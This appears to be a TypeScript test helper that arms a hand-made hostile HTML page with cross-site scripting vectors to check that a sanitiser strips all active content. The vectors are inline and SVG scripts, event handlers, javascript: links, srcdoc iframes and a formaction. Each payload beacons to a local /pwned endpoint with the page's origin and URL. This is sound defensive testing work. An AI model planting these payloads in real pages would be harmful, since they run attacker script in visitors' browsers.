import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { PAGES_DIR } from './corpus-pages.ts';

// The hand-made hostile fixture (test/pages/handmade-hostile-1: every kind of
// active content a sanitiser must drop), armed so that anything of it that
// ever runs leaves a trace: each payload marks the document body and the top
// window, writes the title and localStorage, and reports to the server's
// /pwned with where it ran. Extra vectors are added to the article body:
// inline and SVG scripts, iframes with srcdoc, onerror/onload handlers,
// javascript: links, inline style and <style>, a form.

export const HOSTILE_FIXTURE = 'handmade-hostile-1';
/** What a payload writes into document.title where it runs. */
export const PWNED_TITLE = 'PWNED';

/** One payload, as a JavaScript expression without double quotes (it goes into attributes). */
export function payload(port: number, what: string): string {
  return (
    `(document.body&&(document.body.dataset.pwned='${what}'),` +
    `(window.top||window).__pwned='${what}',` +
    `document.title='${PWNED_TITLE}',` +
    `localStorage.setItem('pwned','${what}'),` +
    `fetch('http://127.0.0.1:${port}/pwned?what=${what}&origin='+encodeURIComponent(self.origin)+'&from='+encodeURIComponent(location.href)))`
  );
}

function extraVectors(port: number): string {
  const p = (what: string) => payload(port, what);
  const srcdoc = `<script>${p('srcdoc')}</script>`.replace(/'/g, '&#39;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
  return `
      <p class="injected" style="background:url(javascript:void(0))" onclick="${p('onclick')}">Lực lượng chức năng tiếp tục mở rộng điều tra đường dây vận chuyển hàng giả qua biên giới.<script>${p('inline-script')}</script></p>
      <img src="x" onerror="${p('img-onerror')}" alt="">
      <p><a href="javascript:${p('js-link')}">Xem chi tiết vụ việc</a></p>
      <svg xmlns="http://www.w3.org/2000/svg" onload="${p('svg-onload')}"><script>${p('svg-script')}</script><circle r="4"/></svg>
      <iframe srcdoc="${srcdoc}"></iframe>
      <iframe src="javascript:${p('iframe-js')}"></iframe>
      <style>p { color: red } body::after { content: 'css' }</style>
      <form action="http://127.0.0.1:${port}/pwned?what=form" method="post"><input name="q"><button formaction="javascript:${p('formaction')}">Gửi</button></form>
      <video src="x" onerror="${p('video-onerror')}"></video>
      <a href="#" style="position:fixed;inset:0" onmouseover="${p('onmouseover')}">Tải ảnh gốc</a>`;
}

export function hostilePage(port: number): string {
  const source = readFileSync(join(PAGES_DIR, HOSTILE_FIXTURE, 'source.html'), 'utf8');
  let counter = 0;
  // Every alert('…') of the fixture becomes a payload named after its label.
  const armed = source.replace(/alert\((['"])?([^'")]*)\1\)/g, (_all, _quote, label: string) => payload(port, `${label || 'alert'}-${counter++}`));
  // Its document.cookie script becomes a payload too.
  const withHead = armed.replace(/<script>document\.cookie[^<]*<\/script>/, `<script>${payload(port, 'head-script')}</script>`);
  // The extra vectors go before the paragraph that ends the body, inside the article.
  const marker = '<p>Chi cục khuyến cáo';
  if (!withHead.includes(marker)) throw new Error(`hostile page: ${HOSTILE_FIXTURE} changed, "${marker}" not found`);
  return withHead.replace(marker, `${extraVectors(port)}\n      ${marker}`);
}
